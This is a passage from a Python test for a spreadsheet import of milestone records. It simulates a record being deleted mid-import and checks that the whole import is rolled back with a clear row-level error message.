        [milestone.pk, "2010-11", "Young people's panel", milestone.title, "2011-03-31",
         "on track", "", "Checked", "0"]
        for milestone in stored
    ]  # fmt: skip
    preview = upload(client, Milestone, rows)
    write_pending = FormulaSafeResource.write_pending

    def deleted_after_the_rows_were_read(resource, *args, **kwargs):
        Milestone.objects.filter(pk=stored[4].pk).delete()
        return write_pending(resource, *args, **kwargs)

    monkeypatch.setattr(FormulaSafeResource, "write_pending", deleted_after_the_rows_were_read)

    done = confirm(client, Milestone, preview)

    page = html.unescape(text(done))
    assert "Nothing was imported" in page
    assert (
        "Row 6: The milestone Step 4 was deleted while this sheet was being imported, so it was "
        "not saved again." in page
    )
    # All or nothing: the two batches written before it are rolled back, history and all (the
    # deletion too, which happened inside the import's transaction here).
    assert not Milestone.objects.filter(commentary="Checked").exists()
    assert not Milestone.history.filter(history_type="~").exists()
